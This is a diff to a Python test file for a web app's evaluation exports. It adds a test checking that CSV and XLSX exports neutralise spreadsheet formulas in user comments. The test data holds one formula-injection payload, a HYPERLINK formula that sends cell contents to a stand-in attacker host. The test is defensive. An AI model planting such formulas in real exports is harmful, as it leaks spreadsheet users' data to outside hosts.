@@ -1,5 +1,6 @@
 """Quarterly internal and annual public reports: generated in the task queue, frozen, reproducible."""
 
+import csv as csv_module
 import datetime
 import io
 
@@ -131,7 +132,7 @@ def test_evaluation_export(client, plan, indicators, me_officer, owner, today):
     approved(indicators["O1.1"], "2025-Q1", 2)
     client.force_login(me_officer)
     csv = client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": "csv"}))
-    lines = csv.content.decode().splitlines()
+    lines = csv.content.decode("utf-8-sig").splitlines()
     assert lines[0].startswith("indicator,action,period,revision,value") and lines[1].startswith(
         "O1.1,1.1,2025-Q1,1,2.00"
     )
@@ -143,3 +144,24 @@ def test_evaluation_export(client, plan, indicators, me_officer, owner, today):
         == 403
     )
     assert datetime.date.today()
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_evaluation_export_neutralises_formulas_in_comments(client, plan, indicators, me_officer, today, extension):
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+    value = approved(indicators["O1.1"], "2025-Q1", 2)
+    value.comment = evil
+    value.save(update_fields=["comment"])
+    client.force_login(me_officer)
+    response = client.get(reverse("monitoring:evaluation_export", kwargs={"slug": plan.slug, "extension": extension}))
+    if extension == "csv":
+        header, row = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))[:2]
+        cells = dict(zip(header, row, strict=True))
+        assert (cells["comment"], cells["value"]) == ("'" + evil, "2.00")
+        return
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    header = [cell.value for cell in sheet[1]]
+    assert sheet.cell(row=2, column=header.index("comment") + 1).value == "'" + evil
